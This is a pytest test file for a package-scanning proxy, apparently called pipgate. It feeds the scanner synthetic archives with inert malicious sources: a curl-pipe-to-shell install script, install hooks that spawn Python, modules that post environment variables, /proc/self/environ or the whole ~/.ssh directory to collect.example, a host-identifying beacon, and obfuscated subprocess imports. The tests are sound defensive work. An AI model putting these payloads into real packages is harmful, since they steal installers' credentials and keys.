"""General behaviours the scan reads, on synthetic archives: install hooks that run what the
sdist ships or start a detached Python, the environment reached by other names, payloads in
modules that install- or import-time code imports.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.policies.scan import ScanPolicy
from pipgate.proxy.scan import scan_archive
from tests.support.archives import pkg_info, sdist, wheel

POLICY = ScanPolicy()

HOOK = """\
import os, subprocess, sys
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        {call}

setup(name="demo", version="1.0", cmdclass={{"install": PostInstall}})
"""


def _hooked(call: str, **members: str | bytes) -> bytes:
    return sdist(
        {
            "PKG-INFO": pkg_info(),
            "setup.py": HOOK.format(call=call),
            "demo/__init__.py": "VERSION = '1.0'\n",
            **members,
        }
    )


def _rules(archive: bytes, filename: str = "demo-1.0.tar.gz") -> tuple[set[str], bool]:
    report = scan_archive(archive, filename)
    assert report.incomplete is None
    return {f.rule for f in report.findings}, not POLICY.decide(report).allowed


SCRIPT_RUN = (
    'script = os.path.join(os.path.dirname(__file__), "tools", "post.sh")\n'
    '        subprocess.call(["bash", script])'
)


@pytest.mark.parametrize(
    ("case", "archive", "rule", "flagged"),
    [
        (
            "a shipped script that downloads and runs",
            _hooked(
                SCRIPT_RUN, **{"tools/post.sh": "#!/bin/sh\ncurl -s https://x.example/p | sh\n"}
            ),
            "install-run-bundled",
            True,
        ),
        (
            "a shipped program",
            _hooked('subprocess.Popen(["./helper"])', helper=b"\x7fELF\x02\x01\x01" + bytes(200)),
            "install-run-bundled",
            True,
        ),
        (
            "a detached python -c",
            _hooked(
                'subprocess.Popen([sys.executable, "-c", "from helper import run"], close_fds=True)'
            ),
            "install-python",
            True,
        ),
        (
            "pythonw through the shell",
            _hooked("os.system('pythonw -c \"import helper\"')"),
            "install-python",
            True,
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_install_hook_behaviour(case: str, archive: bytes, rule: str, flagged: bool) -> None:
    rules, held = _rules(archive)
    assert rule in rules
    assert held is flagged


@pytest.mark.parametrize(
    "archive",
    [
        # A build script that only builds; a compiler check that waits for its answer.
        _hooked(SCRIPT_RUN, **{"tools/post.sh": "#!/bin/sh\nmake -C src all\n"}),
        _hooked(
            'subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])'
        ),
        _hooked('subprocess.check_call(["./configure", "--prefix=/usr"])', configure="#!/bin/sh\n"),
    ],
    ids=["build script", "waited python -c", "configure"],
)
def test_ordinary_build_steps_are_not_held(archive: bytes) -> None:
    rules, held = _rules(archive)
    assert not held
    assert not rules & {"install-run-bundled", "install-python"}


ENV_BY_ATTRIBUTE = """\
import os, requests

class Telemetry:
    def __init__(self):
        self.env = os.environ

    def send(self):
        requests.post("https://collect.example/", json=dict(self.env))

Telemetry().send()
"""
ENV_BY_ALIAS = """\
from os import environ as e
import urllib.request

def report():
    urllib.request.urlopen("https://collect.example/", data=str(dict(e)).encode())

report()
"""
ENV_BY_GETATTR = """\
import os, requests
everything = getattr(os, "environ")
requests.post("https://collect.example/", data=str(everything))
"""


@pytest.mark.parametrize(
    "source",
    [ENV_BY_ATTRIBUTE, ENV_BY_ALIAS, ENV_BY_GETATTR],
    ids=["attribute", "alias", "getattr"],
)
def test_the_environment_sent_out_under_another_name(source: str) -> None:
    rules, held = _rules(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
    assert "credential-exfil" in rules
    assert held


#: Only network use and the environment: held where it runs on import as install- or
#: import-time network use; in a module nothing imports, as the theft it is whoever runs it
#: (the whole environment sent to an address the code carries: rules 22).
QUIET_PAYLOAD = """\
import os, urllib.request

urllib.request.urlopen("https://collect.example/", data=repr(dict(os.environ)).encode())
"""


@pytest.mark.parametrize(
    "members",
    [
        {"demo/__init__.py": "from . import helper\n", "demo/helper.py": QUIET_PAYLOAD},
        # Two levels: __init__ -> core -> helper.
        {
            "demo/__init__.py": "from .core import *\n",
            "demo/core.py": "from demo import helper\n",
            "demo/helper.py": QUIET_PAYLOAD,
        },
        # setup.py imports it at build time.
        {
            "setup.py": "import helper\nfrom setuptools import setup\nsetup(name='demo')\n",
            "helper.py": QUIET_PAYLOAD,
            "demo/__init__.py": "",
        },
        # Nothing imports it: not import-time code, but the environment sent all the same.
        {"demo/__init__.py": "VERSION = 1\n", "demo/helper.py": QUIET_PAYLOAD},
    ],
    ids=["imported by __init__", "two levels down", "imported by setup.py", "not imported"],
)
def test_payload_in_a_module_that_install_or_import_imports(members: dict[str, str]) -> None:
    rules, held = _rules(sdist({"PKG-INFO": pkg_info(), **members}))
    assert held
    assert "credential-exfil" in rules


JUNK_NAMES = """\
lIlIlIlIlI = __import__('ssecorpbus'[::-1])
IlIlIlIlIl = getattr(lIlIlIlIlI, 'Po' + 'pen')
OOO0O0O0O0 = IlIlIlIlIl
l1l1l1l1l1 = 'x'
O0O0O0O0O0 = 'y'
"""


def test_an_imported_module_that_hides_its_code_is_read_as_import_time_code() -> None:
    archive = sdist(
        {
            "PKG-INFO": pkg_info(),
            "demo/__init__.py": "from .util import *\n",
            "demo/util.py": JUNK_NAMES,
        }
    )
    report = scan_archive(archive, "demo-1.0.tar.gz")
    hidden = [f for f in report.findings if f.rule == "obfuscated"]
    assert hidden and hidden[0].file == "demo/util.py" and hidden[0].weight == 8


BEACON = """\
import getpass, platform, requests
requests.get("https://collect.example/v/" + getpass.getuser() + platform.node())
"""


@pytest.mark.parametrize("name", ["demo/version", "tools/post_install.py"])
def test_a_shipped_file_that_install_code_hands_to_python_is_install_code(name: str) -> None:
    call = f'subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "{name}")])'
    rules, held = _rules(_hooked(call, **{name: BEACON}))
    assert "phone-home" in rules
    assert held


HOOK_MODULE = """\
from pathlib import Path
from setuptools.command.install import install


class Hook(install):
    def __init__(self, dist):
        super().__init__(dist)
        self.blob = open(Path("/", "proc", "self", "environ")).read().encode()

    def run(self):
        import urllib.request
        urllib.request.urlopen("https://collect.example/", data=self.blob)
        install.run(self)
"""


def test_an_install_command_defined_in_a_module_setup_py_imports() -> None:
    archive = sdist(
        {
            "PKG-INFO": pkg_info(),
            "setup.py": "from setuptools import setup\nfrom build_tools import settings\nsetup(**settings)\n",
            "build_tools/__init__.py": "from build_tools.hooks import Hook\nsettings = {'cmdclass': {'install': Hook}}\n",
            "build_tools/hooks.py": HOOK_MODULE,
        }
    )
    rules, held = _rules(archive)
    assert "credential-exfil" in rules
    assert held


SSH_DIRECTORY_SENT = """\
import os, requests
keys = os.path.expanduser("~/.ssh")
for name in os.listdir(keys):
    requests.post("https://collect.example.net/k", files={"f": open(os.path.join(keys, name), "rb")})
"""
PUBLIC_KEY_UPLOAD = """\
import os, requests
def upload_public_key(api, token):
    with open(os.path.expanduser("~/.ssh/id_rsa.pub")) as f:
        key = f.read()
    return requests.post(api + "/keys", json={"key": key}, headers={"Authorization": token})
"""


def _package(**modules: str) -> bytes:
    return wheel({"demo/__init__.py": "from . import core\n", **modules})


def test_a_keys_directory_sent_out_by_a_module_the_package_imports() -> None:
    """Triage passed such a module over: nothing in it is called at module level, and
    ``~/.ssh`` without a key's file name was not among what it looks for."""
    rules, flagged = _rules(
        _package(**{"demo/core.py": SSH_DIRECTORY_SENT}), "demo-1.0-py3-none-any.whl"
    )
    assert {"credential-read", "credential-exfil"} <= rules
    assert flagged


@pytest.mark.parametrize("module", ["demo/__init__.py", "demo/core.py"])
def test_uploading_a_public_key_is_not_stealing_one(module: str) -> None:
    """``id_rsa.pub``, ``known_hosts`` and ``authorized_keys`` are no secrets: cloud tools
    upload public keys every day."""
    members = {"demo/__init__.py": "", "demo/core.py": "X = 1\n", module: PUBLIC_KEY_UPLOAD}
    rules, flagged = _rules(wheel(members), "demo-1.0-py3-none-any.whl")
    assert not rules & {"credential-read", "credential-exfil"}
    assert not flagged
